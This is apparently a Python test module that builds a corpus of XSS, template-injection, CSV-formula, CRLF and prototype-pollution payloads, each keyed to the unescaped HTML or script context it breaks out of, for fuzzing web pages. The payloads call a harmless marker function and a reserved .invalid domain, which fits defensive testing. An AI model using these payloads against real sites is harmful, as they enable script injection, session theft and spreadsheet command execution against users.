"""What somebody could type who wants a page to run their words: the corpus, each with the hole it is made for.

Pure. Whatever runs calls `zzx(...)`, whatever becomes an element carries `data-zzx`, whatever asks for something asks
zzx.invalid: so it is seen wherever it comes out, and `zzx` in a row says that a payload lies there.
"""

from __future__ import annotations

from dataclasses import dataclass

MARK = "zzx"
# What a template that is filled in twice would print.
PRODUCT = str(7_919_003 * 13_000_027)


@dataclass(frozen=True)
class Payload:
    """`hole` names the unsafe place it breaks out of (HOLES); none where it is only awkward to carry."""

    text: str
    hole: str = ""


# Unsafe places, each as a page that forgets to escape would have it.
HOLES = {
    "text": "<p>%s</p>",
    "double": '<input value="%s">',
    "single": "<input value='%s'>",
    "bare": "<input value=%s>",
    "link": '<a href="%s">on</a>',
    "textarea": "<textarea>%s</textarea>",
    "title": "<title>%s</title>",
    "style": "<style>p{color:%s}</style><p>on</p>",
    "comment": "<!-- %s -->",
    "data": '<script type="application/json">{"words": "%s"}</script>',
    "script": "<script>var words = '%s';</script>",
    "literal": "<script>var words = `%s`;</script>",
    "twice": "<p hidden>%s</p><div></div>"
    "<script>document.querySelector('div').innerHTML = document.querySelector('p').textContent</script>",
}

TEXT = (
    "<script data-zzx>zzx(1)</script>",
    "<ScRiPt data-zzx>zzx(1)</sCrIpT >",
    "<script data-zzx src=//zzx.invalid/a.js></script>",
    "<img data-zzx src=x onerror=zzx(1)>",
    "<img/data-zzx/src=x\fonerror=zzx(1)>",
    '<img data-zzx src="x"onerror="zzx(1)"',
    "<svg data-zzx onload=zzx(1)>",
    "<svg data-zzx><script>zzx(1)</script></svg>",
    "<svg data-zzx><animate onbegin=zzx(1) attributeName=x dur=1s>",
    '<svg data-zzx><a href="javascript:zzx(1)"><text y=20>on</text></a></svg>',
    '<svg data-zzx><use href="data:image/svg+xml,&lt;svg id=x onload=zzx(1)>#x"/></svg>',
    '<math data-zzx><a href="javascript:zzx(1)">on</a></math>',
    "<math><mtext><table><mglyph><style><!--</style><img data-zzx title=\"--&gt;&lt;img src=x onerror=zzx(1)&gt;\">",
    "<svg></p><style><a title=\"</style><img data-zzx src=x onerror=zzx(1)>\">",
    "<noscript><p title=\"</noscript><img data-zzx src=x onerror=zzx(1)>\">",
    '<iframe data-zzx srcdoc="&lt;script>parent.zzx(1)&lt;/script>"></iframe>',
    '<iframe data-zzx src="javascript:parent.zzx(1)"></iframe>',
    '<object data-zzx data="data:text/html,<script>zzx(1)</script>"></object>',
    '<embed data-zzx src="//zzx.invalid/a.swf">',
    '<base data-zzx href="//zzx.invalid/">',
    '<link data-zzx rel=stylesheet href="//zzx.invalid/a.css">',
    '<meta data-zzx http-equiv=refresh content="0;url=//zzx.invalid/">',
    "<style data-zzx>*{background:url(//zzx.invalid/a)}</style>",
    '<p data-zzx style="width:expression(zzx(1));background:url(//zzx.invalid/b)">on',
    "<details data-zzx open ontoggle=zzx(1)>",
    "<video data-zzx><source onerror=zzx(1) src=x></video>",
    "<audio data-zzx src=x onerror=zzx(1)>",
    "<body data-zzx onpageshow=zzx(1)>",
    "<input data-zzx autofocus onfocus=zzx(1)>",
    "<select data-zzx autofocus onfocus=zzx(1)>",
    "<marquee data-zzx onstart=zzx(1)>on</marquee>",
    '<form data-zzx action="javascript:zzx(1)"><button>on</button></form>',
    '<button data-zzx formaction="javascript:zzx(1)" form=zzx>on</button>',
    '<a data-zzx href="java\tscript:zzx(1)">on</a>',
    '<a data-zzx href="&#106;avascript&colon;zzx(1)">on</a>',
    "<a id=zzx><a id=zzx name=href data-zzx>",
    "<form data-zzx name=body><input name=children></form>",
    "<img data-zzx name=getElementById>",
    "<template data-zzx shadowrootmode=open><img src=x onerror=zzx(1)></template>",
    "<x-zzx data-zzx onclick=zzx(1) tabindex=0>",
    "<plaintext data-zzx>",
    "<table><td data-zzx background=//zzx.invalid/c>",
    "<dialog data-zzx open>on</dialog>",
    "<!--><img data-zzx src=x onerror=zzx(1)>-->",
    "<![CDATA[><img data-zzx src=x onerror=zzx(1)>]]>",
    "<?xml version='1.0'?><img data-zzx src=x onerror=zzx(1)>",
)  # fmt: skip
BREAK_OUTS = {
    "double": ('" data-zzx onfocus=zzx(1) autofocus x="', '"><img data-zzx src=x onerror=zzx(1)>', '"/data-zzx/x="', '" style="background:url(//zzx.invalid/d)" data-zzx="'),
    "single": ("' data-zzx onfocus=zzx(1) autofocus x='", "'><img data-zzx src=x onerror=zzx(1)>"),
    "bare": ("x data-zzx onfocus=zzx(1) autofocus", "`` data-zzx x=`"),
    "link": ("javascript:zzx(1)//", "JaVaScRiPt:zzx(1)", " javascript:zzx(1)", "\x01javascript:zzx(1)", "java\nscript:zzx(1)", "javascript://zzx.invalid/%0Azzx(1)", "data:text/html,<script>zzx(1)</script>", "vbscript:zzx(1)"),
    "textarea": ("</textarea><img data-zzx src=x onerror=zzx(1)>",),
    "title": ("</title><img data-zzx src=x onerror=zzx(1)>",),
    "style": ("</style><img data-zzx src=x onerror=zzx(1)>", "red}*{background:url(//zzx.invalid/e)}p{a:b"),
    "comment": ("--><img data-zzx src=x onerror=zzx(1)>", "--!><img data-zzx src=x onerror=zzx(1)>"),
    "data": ("</script><script data-zzx>zzx(1)</script>",),
    "script": ("';zzx(1);'", "'-zzx(1)-'", "\\';zzx(1)//", "</script><img data-zzx src=x onerror=zzx(1)>"),
    "literal": ("${zzx(1)}", "`;zzx(1);`"),
    "twice": ("&lt;img data-zzx src=x onerror=zzx(1)&gt;", "&#60;img data-zzx src=x onerror=zzx(1)&#62;"),
}  # fmt: skip
# Nothing breaks out by these; they must come through as they are, and no page may fall over them.
AWKWARD = (
    "{{7919003*13000027}} {{constructor.constructor('zzx(1)')()}} zzx",
    "${7919003*13000027} #{7919003*13000027} <%= 7919003*13000027 %> zzx",
    "{% debug %}{{ settings.SECRET_KEY }}{% include 'zzx' %}",
    "[zzx](javascript:zzx(1)) ![zzx](x\" onerror=\"zzx(1)) <javascript:zzx(1)>",
    "\ufeff<script data-zzx>zzx(1)</script>",
    "+ADw-script data-zzx+AD4-zzx(1)+ADw-/script+AD4-",
    "\uff1cscript data-zzx\uff1ezzx(1)\uff1c/script\uff1e",
    "\u2028zzx(1)\u2029zzx(1)\x85zzx(1)",
    "\u202e<script data-zzx>zzx(1)</script>\u202c \u2066zzx\u200f",
    "=HYPERLINK(\"javascript:zzx(1)\",\"zzx\")",
    "@SUM(1+1)*cmd|' /C zzx'!A0",
    "zzx\r\nX-Zzx: 1\r\nSet-Cookie: zzx=1\r\n\r\n<script data-zzx>zzx(1)</script>",
    "BEGIN:VEVENT\r\nURL:javascript:zzx(1)\r\nEND:VEVENT",
    "\\u003cscript data-zzx\\u003ezzx(1)\\u003c/script\\u003e",
    "<!--<script zzx",
    "\"}];zzx(1)//",
    "__proto__[zzx]", "constructor zzx", "%00%0d%0azzx%3Cscript%3E", "../../zzx/../..",
    "zzx" + "A" * 180, "zzx" + "Z\u0351\u036b\u0343\u036a" * 12, "\U0001f47e\u200d\U0001d6fczzx\U000e0001",
)  # fmt: skip

PAYLOADS = (
    *(Payload(text, "text") for text in TEXT),
    *(Payload(text, hole) for hole, texts in BREAK_OUTS.items() for text in texts),
    *(Payload(text) for text in AWKWARD),
)
# Ends whatever it may stand in: so one turn shows any text that is not escaped, whichever payload lies before it.
ENDING = "'\"></title></textarea></style></script>--><b data-zzx>"
BUNDLE = 6  # how many lie in one long field at once


def one(turn: int) -> str:
    return PAYLOADS[turn % len(PAYLOADS)].text


def ended(turn: int) -> str:
    return one(turn) + ENDING


def several(turn: int, count: int = BUNDLE) -> str:
    """So many, the first of them alone at the beginning, where a link or a formula would be looked for."""
    return "\n".join([*(one(turn + n * 17) for n in range(count)), ENDING])
